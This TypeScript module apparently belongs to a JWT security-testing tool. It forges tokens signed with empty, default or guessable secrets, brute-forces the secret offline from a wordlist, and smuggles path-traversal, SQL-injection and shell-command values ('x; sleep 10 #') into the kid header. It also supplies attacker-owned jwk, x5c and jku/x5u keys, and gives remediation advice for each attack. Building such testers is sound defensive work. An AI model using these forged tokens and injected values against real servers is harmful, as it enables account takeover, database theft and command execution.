import { generateKeyPairSync, randomBytes, sign as signWithKey } from 'node:crypto';
import { createServer } from 'node:http';
import type { Attack } from '../attack.ts';
import type { AttackSession } from '../attack-session.ts';
import { present } from '../carriers.ts';
import {
  type AttackDefaults,
  customAttacks,
  judgeForSession,
  tokenAttacks,
} from '../define-attacks.ts';
import { forge, segment, segmentsOf, sign } from '../forge.ts';
import { badToken, breach } from '../judge-response.ts';
import type { Outcome } from '../outcome.ts';
import { knownSecrets } from './known-secrets.ts';

const guessable: AttackDefaults = {
  group: 'key',
  lesson: 1,
  advice:
    'Take a random secret of at least 32 bytes from the environment, and let no server start without one (RFC 7518, 3.2; RFC 8725, 3.5).',
};

const embedded: AttackDefaults = {
  group: 'key',
  lesson: 4,
  advice:
    'Take the key from your own settings and never from the token: refuse every header member but alg and typ (RFC 8725, 3.10).',
};

const ownKey = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const jwk = ownKey.publicKey.export({ format: 'jwk' });
const octets = randomBytes(32).toString('base64url');

/** Tokens signed with a key that is known, can be guessed, or is in the token itself. */
export const key: Attack[] = [
  ...tokenAttacks(guessable, [
    {
      id: 'key-empty',
      name: 'signed with the empty secret',
      gains: 'A server whose secret is not set takes tokens from anybody.',
      token: signedWith(() => ''),
    },
    {
      id: 'key-article',
      name: 'signed with the article’s YOUR_SCRET_STRING',
      gains: 'Everybody who has read the article signs in as anybody.',
      token: signedWith(() => 'YOUR_SCRET_STRING'),
    },
    {
      id: 'key-jwt-io',
      name: 'signed with your-256-bit-secret, the sample of jwt.io',
      gains: 'The first secret that everybody tries opens every account.',
      token: signedWith(() => 'your-256-bit-secret'),
    },
    {
      id: 'key-secret',
      name: 'signed with the word secret',
      gains: 'One guess opens every account.',
      token: signedWith(() => 'secret'),
    },
    {
      id: 'key-undefined',
      name: 'signed with the word undefined',
      gains: 'A variable that was not set became a text, and the text is the secret.',
      token: signedWith(() => 'undefined'),
    },
    {
      id: 'key-issuer',
      name: 'signed with the issuer, which stands in every token',
      gains: 'The secret can be read out of any token.',
      token: signedWith(({ claims }) => String(claims.iss)),
    },
    {
      id: 'key-public',
      name: 'signed with the text of a public key',
      gains: 'A server that keeps a public key takes its text, which everybody has, for a secret.',
      token: signedWith(() => ownKey.publicKey.export({ type: 'spki', format: 'pem' }).toString()),
    },
  ]),
  ...customAttacks(guessable, [
    {
      id: 'key-known',
      name: `${knownSecrets.length} known secrets, tried at home on a good token`,
      gains: 'The secret itself, without a single request: tokens for anybody, for ever.',
      run: guessSecret,
    },
  ]),

  ...tokenAttacks(embedded, [
    {
      id: 'key-kid-empty-file',
      name: 'kid of an empty file, signed with the empty secret',
      gains:
        'The token chooses the file with the key, and the attacker knows what /dev/null holds.',
      token: ({ claims }) => forge(claims, '', { header: withKid('../../../../dev/null') }),
    },
    {
      id: 'key-kid-sql',
      name: 'kid of injected SQL, signed with what it selects',
      gains: 'The token dictates the key to the database, and reads the rest of it on the way.',
      token: ({ claims }) => forge(claims, '1', { header: withKid("x' UNION SELECT '1';--") }),
    },
    {
      id: 'key-kid-command',
      name: 'kid of a command that sleeps for ten seconds',
      gains: 'The server runs the attacker’s commands.',
      token: ({ claims }) => forge(claims, '', { header: withKid('x; sleep 10 #') }),
    },
    {
      id: 'key-kid-prototype',
      name: 'kid "__proto__", signed with the text of an object',
      gains: 'A look-up of keys in a plain object finds one that everybody knows.',
      token: ({ claims }) => forge(claims, '[object Object]', { header: withKid('__proto__') }),
    },
    {
      id: 'key-jwk-oct',
      name: 'jwk with a secret of the attacker’s, signed with it',
      gains: 'The token brings the key that it is checked with.',
      token: ({ claims }) => {
        const embedded = { kty: 'oct', k: Buffer.from(octets).toString('base64url') };
        return forge(claims, octets, { header: { typ: 'JWT', alg: 'HS256', jwk: embedded } });
      },
    },
    {
      id: 'key-jwk-public',
      name: 'jwk with a public key of the attacker’s, signed with the private one',
      gains:
        'The token brings the key that it is checked with, and it even looks like a proper one.',
      token: (session) => signedByOwnKey(session, { jwk }),
    },
    {
      id: 'key-x5c',
      name: 'x5c with a certificate of the attacker’s, signed with its key',
      gains: 'A certificate that nobody has vouched for is as good as one of ours.',
      token: (session) =>
        signedByOwnKey(session, {
          x5c: [ownKey.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')],
        }),
    },
  ]),
  ...customAttacks(
    embedded,
    [
      [
        'jku',
        'The server fetches its keys where the attacker says, or whatever else it can reach.',
      ],
      ['x5u', 'The server fetches a certificate where the attacker says, and believes it.'],
    ].map(([member = '', gains = '']) => ({
      id: `key-${member}`,
      name: `${member} with an address of the attacker’s, which listens there`,
      gains,
      run: (session: AttackSession) => checkKeyRequests(session, member),
    })),
  ),
];

/** Adds a claim: with a right guess the token would otherwise equal the good one. */
function signedWith(secret: (session: AttackSession) => string) {
  return (session: AttackSession): string =>
    forge({ ...session.claims, forged: true }, secret(session), { header: session.header });
}

function withKid(kid: string) {
  return { typ: 'JWT', alg: 'HS256', kid };
}

function signedByOwnKey({ claims }: AttackSession, members: object): string {
  const text = `${segment({ typ: 'JWT', alg: 'ES256', ...members })}.${segment(claims)}`;
  const key = { key: ownKey.privateKey, dsaEncoding: 'ieee-p1363' } as const;
  return `${text}.${signWithKey('sha256', Buffer.from(text), key).toString('base64url')}`;
}

/** Guesses the secret offline, with a good token and a list of words; no server can count these attempts. */
async function guessSecret(session: AttackSession): Promise<Outcome> {
  const [header, claims, signature] = segmentsOf(session.token);
  const secret = knownSecrets.find((word) => sign(`${header}.${claims}`, word) === signature);
  if (secret === undefined) return { held: true };
  const forged = signedWith(() => secret)(session);
  const response = (await present(session, forged)) ?? session.loginResponse;
  return breach(response, 'a secret that is on no list of known ones', true);
}

/** Names a local server in a token, and counts the requests to it. */
async function checkKeyRequests(session: AttackSession, member: string): Promise<Outcome> {
  let visits = 0;
  const trap = createServer((_request, response) => {
    visits += 1;
    response.end(JSON.stringify({ keys: [{ ...jwk, alg: 'ES256', use: 'sig' }] }));
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  const place = trap.address();
  const port = typeof place === 'object' && place !== null ? place.port : 0;
  const token = signedByOwnKey(session, { [member]: `http://127.0.0.1:${port}/keys.json` });
  const response = (await present(session, token)) ?? session.loginResponse;
  trap.close();
  trap.closeAllConnections();
  if (visits > 0) return breach(response, `no request to the address in ${member}`, true);
  return judgeForSession(session, response, [badToken]);
}
